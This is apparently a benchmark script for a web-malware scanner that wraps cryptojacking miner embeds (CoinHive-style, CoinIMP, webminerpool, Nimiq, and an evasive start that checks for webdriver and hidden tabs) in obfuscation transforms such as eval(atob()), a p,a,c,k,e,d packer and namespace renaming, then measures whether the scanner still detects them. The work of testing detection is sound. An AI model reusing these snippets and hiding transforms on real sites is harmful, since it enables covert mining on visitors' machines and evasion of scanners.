"""Recall of `webscan scan` on hidden and obfuscated miners, and false positives on obfuscated
benign code.

Takes miner sources (the miner fixtures in site_fixtures/js, the inline scripts of the miner
pages in site_fixtures/html, and the site snippets below), transforms each with the REAL
javascript-obfuscator (npm, installed under bench/.cache/obf on first run) in a range of
presets and with hand-written packers and renames, scans every variant in-process with the
same Scanner as `webscan scan`, and prints a preset x family table of verdicts plus recall
(`miner`, and `miner|suspicious`). The same presets are run over benign code (the benign
fixtures and a fixed sample of library files from bench/.cache/node_modules) to show that
obfuscation alone does not make code suspicious: benign sites use javascript-obfuscator too.

    python bench/eval_obfuscation.py                 # everything (first run installs npm pkg)
    python bench/eval_obfuscation.py --benign 30     # benign library sample size
    python bench/eval_obfuscation.py --show-misses   # list miner variants not judged `miner`

Variants are cached in bench/.cache/obfuscation/ (gitignored); delete it to regenerate.
Timings are not asserted anywhere; this prints figures only.
"""

from __future__ import annotations

import argparse
import base64
import hashlib
import json
import random
import re
import subprocess
import sys
from collections import defaultdict
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from bs4 import BeautifulSoup  # noqa: E402
import tree_sitter_javascript  # noqa: E402
from tree_sitter import Language, Parser  # noqa: E402

from webscan.js.deobfuscate import unescape_js  # noqa: E402

CACHE = ROOT / "bench" / ".cache"
OBF_DIR = CACHE / "obf"
OUT = CACHE / "obfuscation"
JS = Language(tree_sitter_javascript.language())

# --- miner sources -----------------------------------------------------------------------------
# Site snippets written from PUBLIC knowledge of how these services were embedded (their
# documentation and published analyses, from memory); keys and wallets are made up. Where the
# exact API is not certain, the comment says so. None is copied from a live page.
SNIPPETS: dict[str, str] = {
    # CoinHive's documented embed (2017-2019): new CoinHive.Anonymous(siteKey, options).start()
    "coinhive-embed": """
var miner = new CoinHive.Anonymous('k8Jz1vWq0aXc3yPn5Rt7Gu9Ie2Ho4Ls6', {throttle: 0.3});
miner.start();
""",
    # AuthedMine (CoinHive's opt-in variant): same API, start only after opt-in
    "authedmine-embed": """
var miner = new CoinHive.Anonymous('k8Jz1vWq0aXc3yPn5Rt7Gu9Ie2Ho4Ls6', {throttle: 0.3});
if (!miner.isMobile() && !miner.didOptOut(31536000)) {
  miner.start(CoinHive.IF_EXCLUSIVE_TAB);
}
""",
    # CoinHive per-user mining (documented CoinHive.User)
    "coinhive-user": """
var miner = new CoinHive.User('k8Jz1vWq0aXc3yPn5Rt7Gu9Ie2Ho4Ls6', 'john-doe', {
  threads: 4, autoThreads: false, throttle: 0, forceASMJS: false
});
miner.on('found', function () { console.log('found'); });
miner.start(CoinHive.FORCE_EXCLUSIVE_TAB);
""",
    # Crypto-Loot: a CoinHive clone with the CRLT namespace (published analyses)
    "cryptoloot-embed": """
var miner = new CRLT.Anonymous('b23efb4650150d5bc5b2de6f05267272cada06d985a0', {
  threads: 3, autoThreads: false, throttle: 0.2, coin: "upx"
});
miner.start();
""",
    # CoinIMP: `Client` namespace, 64-hex site key, `c: 'w'` (webchain) option, notification bar
    "coinimp-embed": """
var _client = new Client.Anonymous('3c2d8f4a1b6e9d0c7a5f2e8b4d1c6a9f0e3b7d2c5a8f1e4b9d6c3a0f7e2b5d8c', {
  throttle: 0.3, c: 'w', ads: 0
});
_client.start();
_client.addMiningNotification("Top", "This site is running JavaScript miner from coinimp.com", "#cccccc", 40, "#3d3d3d");
""",
    # deepMiner (self-hosted CoinHive clone); namespace and Anonymous per its README as recalled
    "deepminer-embed": """
var miner = new deepMiner.Anonymous('deepMiner_test', {autoThreads: true, throttle: 0.2});
miner.start();
""",
    # CryptoNoter (self-hosted CoinHive clone), same API shape
    "cryptonoter-embed": """
var miner = new CryptoNoter.Anonymous('CryptoNoter', {autoThreads: true, throttle: 0.2});
miner.start();
""",
    # WebMinePool-style: CoinHive-shaped API under its own namespace (approximate)
    "webminepool-embed": """
var miner = new WMP.Anonymous('SK_nR4tK9pLq2wX7vB3mZ8c', {threads: 2, autoThreads: false, throttle: 0.2});
miner.start();
""",
    # webminerpool (open source): startMining(pool, wallet, password, threads), throttleMiner
    "webminerpool-embed": """
startMining("moneroocean.stream",
  "4AMASi45ub7Qe4ZE36UT5G6cU4ud8Fhhe4deS4F3cw9KTAb8dLcukC7edhDQ7cn5d4gEYkbUrMWeWQLGsCmrG6dLaYyNoVK",
  "", 4);
throttleMiner = 20;
""",
    # a delayed, evasive start of a renamed CoinHive clone (FIELD.md: webdriver / hidden tab)
    "evasive-renamed": """
setTimeout(function () {
  if (navigator.webdriver || document.hidden) return;
  var m = new CH.Anonymous('k8Jz1vWq0aXc3yPn5Rt7Gu9Ie2Ho4Ls6', {threads: navigator.hardwareConcurrency, throttle: 0.6});
  m.start(CH.FORCE_EXCLUSIVE_TAB);
}, 5000);
""",
    # Nimiq (Argon2d PoW) browser mining with @nimiq/core, from its public docs as recalled:
    # Nimiq.init(callback), GenesisConfig, Consensus, a Miner or pool miner, startWork().
    # The exact constructor arguments are approximate.
    "nimiq-miner": """
Nimiq.init(async function () {
  Nimiq.GenesisConfig.main();
  const consensus = await Nimiq.Consensus.light();
  const address = Nimiq.Address.fromUserFriendlyAddress('NQ07 0000 0000 0000 0000 0000 0000 0000 0000');
  const miner = new Nimiq.SmartPoolMiner(consensus.blockchain, consensus.network.time, address,
      Nimiq.BasePoolMiner.generateDeviceId(consensus.network.config));
  miner.threads = navigator.hardwareConcurrency;
  miner.connect('pool.example.test', 8444);
  consensus.on('established', function () { miner.startWork(); });
  consensus.network.connect();
});
""",
    # a self-hosted CoinHive-protocol client in a few lines (no kit name at all)
    "proxy-protocol-client": """
var ws = new WebSocket('wss://' + location.host + '/proxy');
ws.onopen = function () {
  ws.send(JSON.stringify({type: 'auth', params: {site_key: 'k8Jz1vWq0aXc3yPn5Rt7Gu9Ie2Ho4Ls6', type: 'anonymous', user: null, goal: 0}}));
};
ws.onmessage = function (e) {
  var msg = JSON.parse(e.data);
  if (msg.type === 'job') { worker.postMessage(msg.params); }
};
worker.onmessage = function (e) {
  ws.send(JSON.stringify({type: 'submit', params: {job_id: e.data.job_id, nonce: e.data.nonce, result: e.data.result}}));
};
""",
}

MINER_FIXTURES = {  # site_fixtures/js files that are miners (tests/test_js_engine.py EXPECTED)
    "coinhive-style-kit.js", "coinhive-style-page.js", "obfuscated-renamed-miner.js",
    "webminerpool-style.js", "stratum-style.js", "sha256-nonce-loop-miner.js",
}
MINER_PAGES = {"third_party_coinhive.html", "self_hosted_blob_worker.html", "crlf_offsets.html"}
NAMESPACES = {"CoinHive", "CRLT", "Client", "deepMiner", "CryptoNoter", "WMP", "CH", "Nimiq"}

# --- javascript-obfuscator presets ---------------------------------------------------------------
_BASE = {"seed": 7, "stringArrayThreshold": 1}
PRESETS: dict[str, dict] = {
    "obf-default": {"seed": 7},
    "obf-base64": {**_BASE, "stringArrayEncoding": ["base64"]},
    "obf-rc4": {**_BASE, "stringArrayEncoding": ["rc4"]},
    "obf-rotate-shuffle-fnwrap": {**_BASE, "stringArrayRotate": True, "stringArrayShuffle": True,
                                  "stringArrayWrappersCount": 2, "stringArrayWrappersType": "function",
                                  "stringArrayWrappersChainedCalls": True, "stringArrayIndexShift": True},
    "obf-split-strings": {**_BASE, "splitStrings": True, "splitStringsChunkLength": 3},
    "obf-unicode-escape": {**_BASE, "unicodeEscapeSequence": True},
    "obf-hex-names": {**_BASE, "identifierNamesGenerator": "hexadecimal"},
    "obf-mangled-names": {**_BASE, "identifierNamesGenerator": "mangled"},
    "obf-rename-globals": {**_BASE, "renameGlobals": True},
    "obf-control-flow": {**_BASE, "controlFlowFlattening": True, "controlFlowFlatteningThreshold": 1},
    "obf-dead-code": {**_BASE, "deadCodeInjection": True, "deadCodeInjectionThreshold": 1},
    "obf-self-defending": {**_BASE, "selfDefending": True},
    "obf-object-keys": {**_BASE, "transformObjectKeys": True},
    "obf-numbers-expr": {**_BASE, "numbersToExpressions": True},
    "obf-no-string-array": {"seed": 7, "stringArray": False, "transformObjectKeys": True,
                            "unicodeEscapeSequence": True},
    "obf-max": {**_BASE, "stringArrayEncoding": ["rc4", "base64"], "controlFlowFlattening": True,
                "controlFlowFlatteningThreshold": 1, "deadCodeInjection": True,
                "deadCodeInjectionThreshold": 0.5, "splitStrings": True, "splitStringsChunkLength": 4,
                "transformObjectKeys": True, "numbersToExpressions": True, "renameGlobals": True,
                "stringArrayWrappersCount": 3, "stringArrayWrappersType": "function",
                "stringArrayWrappersChainedCalls": True, "stringArrayIndexShift": True,
                "stringArrayCallsTransform": True, "stringArrayCallsTransformThreshold": 1,
                "selfDefending": True, "identifierNamesGenerator": "mangled-shuffled"},
}

DRIVER = r"""
const fs = require("fs"), path = require("path");
const JO = require(path.join(process.argv[2], "node_modules", "javascript-obfuscator"));
const jobs = JSON.parse(fs.readFileSync(0, "utf8"));
for (const job of jobs) {
  try {
    const out = JO.obfuscate(fs.readFileSync(job.in, "utf8"), job.options).getObfuscatedCode();
    fs.mkdirSync(path.dirname(job.out), {recursive: true});
    fs.writeFileSync(job.out, out);
    console.log("ok " + job.out);
  } catch (e) { console.log("fail " + job.out + " " + String(e && e.message || e).split("\n")[0].slice(0, 200)); }
}
"""


def ensure_obfuscator() -> None:
    if (OBF_DIR / "node_modules" / "javascript-obfuscator" / "package.json").is_file():
        return
    OBF_DIR.mkdir(parents=True, exist_ok=True)
    if not (OBF_DIR / "package.json").is_file():
        (OBF_DIR / "package.json").write_text('{"name": "obf", "private": true}\n')
    print(f"npm install javascript-obfuscator into {OBF_DIR} ...", flush=True)
    subprocess.run(["npm", "install", "--no-audit", "--no-fund", "javascript-obfuscator"],
                   cwd=OBF_DIR, check=True, stdout=subprocess.DEVNULL)


# --- hand-written hiding transforms (tree-sitter based, so they keep the code valid) -----------

def _parse(src: str):
    return Parser(JS).parse(src.encode("utf-8")).root_node


def _walk(root):
    stack = [root]
    while stack:
        n = stack.pop()
        yield n
        stack.extend(reversed(n.children))


def _edit(src: str, edits: list[tuple[int, int, str]]) -> str:
    """Apply non-overlapping byte-range edits (outermost wins)."""
    b = src.encode("utf-8")
    edits = sorted(edits, key=lambda e: (e[0], -e[1]))
    out, pos = [], 0
    for s, e, rep in edits:
        if s < pos:
            continue
        out.append(b[pos:s])
        out.append(rep.encode("utf-8"))
        pos = e
    out.append(b[pos:])
    return b"".join(out).decode("utf-8")


def _strings(root) -> list:
    return [n for n in _walk(root) if n.type == "string" and n.parent is not None
            and n.parent.type != "import_statement"]


def t_hex_escape(src: str) -> str:
    root = _parse(src)
    edits = []
    for n in _strings(root):
        val = unescape_js(n.text[1:-1].decode("utf-8"))
        edits.append((n.start_byte, n.end_byte, "'" + "".join(f"\\x{ord(c):02x}" if ord(c) < 256 else c for c in val) + "'"))
    return _edit(src, edits)


def t_concat_split(src: str) -> str:
    root = _parse(src)
    edits = []
    for n in _strings(root):
        body = n.text[1:-1].decode()
        if len(body) < 4 or "\\" in body:
            continue
        q = n.text[:1].decode()
        parts = [body[i:i + 3] for i in range(0, len(body), 3)]
        edits.append((n.start_byte, n.end_byte, "(" + " + ".join(q + p + q for p in parts) + ")"))
    return _edit(src, edits)


def t_bracket_access(src: str) -> str:
    """a.b -> a['b'] everywhere (what minifiers and obfuscators do to hide property names);
    nested member expressions overlap, so one is rewritten per pass."""
    return _apply_repeated(src, t_bracket_access_once)


def t_bracket_access_once(src: str) -> str | None:
    root = _parse(src)
    for n in _walk(root):
        if n.type == "member_expression":
            prop = n.child_by_field_name("property")
            obj = n.child_by_field_name("object")
            if prop is not None and prop.type == "property_identifier" and obj is not None:
                return _edit(src, [(obj.end_byte, n.end_byte, f"['{prop.text.decode()}']")])
    return None


def _apply_repeated(src: str, once, limit: int = 400) -> str:
    for _ in range(limit):
        nxt = once(src)
        if nxt is None:
            return src
        src = nxt
    return src


def t_window_concat(src: str) -> str:
    """Kit namespaces reached as window['Co' + 'inHive']."""
    root = _parse(src)
    edits = []
    for n in _walk(root):
        if n.type == "identifier" and n.text.decode() in NAMESPACES and n.parent is not None \
                and n.parent.type == "member_expression" and n.parent.child_by_field_name("object") == n:
            name = n.text.decode()
            h = max(1, len(name) // 2)
            edits.append((n.start_byte, n.end_byte, f"window['{name[:h]}' + '{name[h:]}']"))
    return _edit(src, edits)


def t_alias_ctor(src: str) -> str:
    """var A = NS.Anonymous; ... new A(...): the constructor reached through an alias."""
    root = _parse(src)
    edits, k = [], 0
    for n in _walk(root):
        if n.type != "new_expression":
            continue
        ctor = n.child_by_field_name("constructor")
        if ctor is None or ctor.type != "member_expression":
            continue
        stmt = n
        while stmt.parent is not None and stmt.parent.type not in ("program", "statement_block"):
            stmt = stmt.parent
        k += 1
        alias = f"_Ctor{k}"
        edits.append((stmt.start_byte, stmt.start_byte, f"var {alias} = {ctor.text.decode()};\n"))
        edits.append((ctor.start_byte, ctor.end_byte, alias))
    # insertion and replacement may share a start: sort keeps the zero-width insertion first
    b = src.encode()
    out, pos = [], 0
    for s, e, rep in sorted(edits, key=lambda x: (x[0], x[1])):
        out.append(b[pos:s].decode())
        out.append(rep)
        pos = e
    out.append(b[pos:].decode())
    return "".join(out)


def t_rename_namespace(src: str) -> str:
    rnd = random.Random(hashlib.sha256(src.encode()).digest())
    new = "".join(rnd.choice("QXZqxzjkvw") for _ in range(3))
    root = _parse(src)
    edits = [(n.start_byte, n.end_byte, new) for n in _walk(root)
             if n.type == "identifier" and n.text.decode() in NAMESPACES]
    return _edit(src, edits)


def t_eval_atob(src: str) -> str:
    return f"eval(atob('{base64.b64encode(src.encode()).decode()}'));\n"


def t_function_atob(src: str) -> str:
    return f"new Function(atob(\"{base64.b64encode(src.encode()).decode()}\"))();\n"


def t_packer(src: str) -> str:
    """Dean Edwards' p,a,c,k,e,d packer (base 62), written from its published decoder."""
    words = sorted(set(re.findall(r"\b\w+\b", src)), key=lambda w: -src.count(w))
    digits = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

    def enc(c: int) -> str:
        return ("" if c < 62 else enc(c // 62)) + (chr(c % 62 + 29) if c % 62 > 35 else digits[c % 62])

    table = {w: enc(i) for i, w in enumerate(words)}
    payload = re.sub(r"\b\w+\b", lambda m: table[m.group(0)], src)
    payload = payload.replace("\\", "\\\\").replace("'", "\\'").replace("\n", "\\n")
    keys = [w if table[w] != w else "" for w in words]
    return ("eval(function(p,a,c,k,e,d){e=function(c){return(c<a?'':e(parseInt(c/a)))+((c=c%a)>35?"
            "String.fromCharCode(c+29):c.toString(36))};if(!''.replace(/^/,String)){while(c--){d[e(c)]="
            "k[c]||e(c)}k=[function(e){return d[e]}];e=function(){return'\\\\w+'};c=1};while(c--){if(k[c])"
            "{p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}"
            f"('{payload}',62,{len(words)},'{'|'.join(keys)}'.split('|'),0,{{}}))\n")


HAND: dict[str, callable] = {
    "hand-hex-escape": t_hex_escape,
    "hand-concat-split": t_concat_split,
    "hand-bracket-access": t_bracket_access,
    "hand-window-concat": t_window_concat,
    "hand-alias-ctor": t_alias_ctor,
    "hand-rename-ns": t_rename_namespace,
    "hand-eval-atob": t_eval_atob,
    "hand-function-atob": t_function_atob,
    "hand-packer": t_packer,
    "hand-rename+bracket+alias": lambda s: t_alias_ctor(t_bracket_access(t_rename_namespace(s))),
}


# --- corpus --------------------------------------------------------------------------------------

def miner_sources() -> dict[str, str]:
    out: dict[str, str] = {}
    for name in sorted(MINER_FIXTURES):
        p = ROOT / "site_fixtures" / "js" / name
        if p.is_file():
            out[p.stem] = p.read_text("utf-8")
    for name in sorted(MINER_PAGES):
        p = ROOT / "site_fixtures" / "html" / name
        if not p.is_file():
            continue
        soup = BeautifulSoup(p.read_bytes(), "html.parser")
        scripts = [s.string for s in soup.find_all("script") if not s.get("src") and s.string
                   and (s.get("type") in (None, "", "text/javascript", "module"))]
        if scripts:
            out["page-" + p.stem] = "\n;\n".join(scripts)
    out.update(SNIPPETS)
    return out


def benign_sources(n: int) -> dict[str, str]:
    out: dict[str, str] = {}
    for p in sorted((ROOT / "site_fixtures" / "js").glob("benign-*.js")):
        out[p.stem] = p.read_text("utf-8")
    nm = CACHE / "node_modules"
    if n and nm.is_dir():
        by_pkg: dict[str, list[Path]] = defaultdict(list)
        for p in sorted(nm.rglob("*.js")):
            try:
                size = p.stat().st_size
            except OSError:
                continue
            if p.is_file() and 3_000 <= size <= 60_000 and ".min." not in p.name:
                rel = p.relative_to(nm).parts
                pkg = "/".join(rel[:2]) if rel[0].startswith("@") else rel[0]
                by_pkg[pkg].append(p)
        rnd = random.Random(20240611)
        pkgs = sorted(by_pkg)
        rnd.shuffle(pkgs)
        for pkg in pkgs[:n]:
            p = rnd.choice(by_pkg[pkg])
            try:
                out["lib:" + str(p.relative_to(nm))] = p.read_text("utf-8")
            except UnicodeDecodeError:
                continue
    return out


def build_variants(sources: dict[str, str], group: str) -> dict[tuple[str, str], Path]:
    """(preset, source name) -> variant file; obfuscator jobs run in one node process."""
    base = OUT / group
    variants: dict[tuple[str, str], Path] = {}
    jobs = []
    for name, src in sources.items():
        safe = re.sub(r"[^\w.-]+", "_", name)
        orig = base / "original" / f"{safe}.js"
        orig.parent.mkdir(parents=True, exist_ok=True)
        if not orig.is_file() or orig.read_text("utf-8") != src:
            orig.write_text(src, "utf-8")
            for old in base.glob(f"*/{safe}.js"):
                if old != orig:
                    old.unlink()
        variants[("original", name)] = orig
        for preset, opts in PRESETS.items():
            out = base / preset / f"{safe}.js"
            variants[(preset, name)] = out
            if not out.is_file():
                jobs.append({"in": str(orig), "out": str(out), "options": opts})
        for preset, fn in HAND.items():
            out = base / preset / f"{safe}.js"
            variants[(preset, name)] = out
            if not out.is_file():
                out.parent.mkdir(parents=True, exist_ok=True)
                try:
                    out.write_text(fn(src), "utf-8")
                except Exception as e:  # noqa: BLE001 - a transform that cannot apply is skipped
                    print(f"  {preset} on {name}: {type(e).__name__}: {e}", file=sys.stderr)
                    variants.pop((preset, name))
    if jobs:
        driver = OBF_DIR / "driver.js"
        driver.write_text(DRIVER)
        print(f"javascript-obfuscator: {len(jobs)} variants of {group} ...", flush=True)
        r = subprocess.run(["node", str(driver), str(OBF_DIR)], input=json.dumps(jobs), text=True,
                           capture_output=True)
        for line in r.stdout.splitlines():
            if line.startswith("fail"):
                print("  " + line, file=sys.stderr)
        if r.returncode:
            print(r.stderr[-2000:], file=sys.stderr)
    return {k: v for k, v in variants.items() if v.is_file()}


# --- scanning and the table -------------------------------------------------------------------

def scan_all(variants: dict[tuple[str, str], Path]) -> dict[tuple[str, str], str]:
    from webscan.scanner import Scanner
    scanner = Scanner()
    out = {}
    for key, path in variants.items():
        out[key] = scanner.scan_bytes(path.read_bytes(), path.name, kind="js").verdict.value
    return out


_SHORT = {"miner": "M", "suspicious": "s", "clean": ".", "error": "E"}


def table(verdicts: dict[tuple[str, str], str], title: str) -> None:
    presets = list(dict.fromkeys(p for p, _ in verdicts))
    names = list(dict.fromkeys(n for _, n in verdicts))
    width = max(len(p) for p in presets) + 1
    print(f"\n== {title}: rows preset, columns source (M miner, s suspicious, . clean, E error) ==")
    for i, n in enumerate(names):
        print(f"  [{i:2d}] {n}")
    print(" " * width + " " + "".join(f"{i % 100:>3d}" for i in range(len(names))) + "   miner  m|s")
    for p in presets:
        row = [verdicts.get((p, n)) for n in names]
        cells = "".join(f"{_SHORT.get(v, '-'):>3s}" for v in row)
        got = [v for v in row if v]
        m = sum(v == "miner" for v in got)
        ms = sum(v in ("miner", "suspicious") for v in got)
        print(f"{p:<{width}} {cells}   {m:>2d}/{len(got):<2d}  {ms:>2d}/{len(got):<2d}")


def summary(verdicts: dict[tuple[str, str], str], label: str) -> dict[str, float]:
    vals = list(verdicts.values())
    n = len(vals) or 1
    res = {k: sum(v == k for v in vals) / n for k in ("miner", "suspicious", "clean", "error")}
    print(f"{label}: {len(vals)} variants; miner {res['miner']:.1%}, miner|suspicious "
          f"{res['miner'] + res['suspicious']:.1%}, clean {res['clean']:.1%}, error {res['error']:.1%}")
    return res


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--benign", type=int, default=30, help="library files sampled from node_modules")
    ap.add_argument("--show-misses", action="store_true")
    ap.add_argument("--json", type=Path, help="also write every verdict here")
    args = ap.parse_args()
    ensure_obfuscator()
    miners = build_variants(miner_sources(), "miners")
    benign = build_variants(benign_sources(args.benign), "benign")
    mv = scan_all(miners)
    bv = scan_all(benign)
    table(mv, "MINERS")
    print()
    summary(mv, "MINER variants")
    table(bv, "BENIGN")
    print()
    summary(bv, "BENIGN variants")
    flagged = sorted((p, n, v) for (p, n), v in bv.items() if v in ("miner", "suspicious"))
    for p, n, v in flagged:
        print(f"  benign flagged: {v:10s} {p:28s} {n}")
    if args.show_misses:
        for (p, n), v in sorted(mv.items()):
            if v != "miner":
                print(f"  miss: {v:10s} {p:28s} {n}  ({miners[(p, n)]})")
    if args.json:
        args.json.write_text(json.dumps({"miners": {f"{p}|{n}": v for (p, n), v in mv.items()},
                                         "benign": {f"{p}|{n}": v for (p, n), v in bv.items()}},
                                        indent=1))


if __name__ == "__main__":
    main()
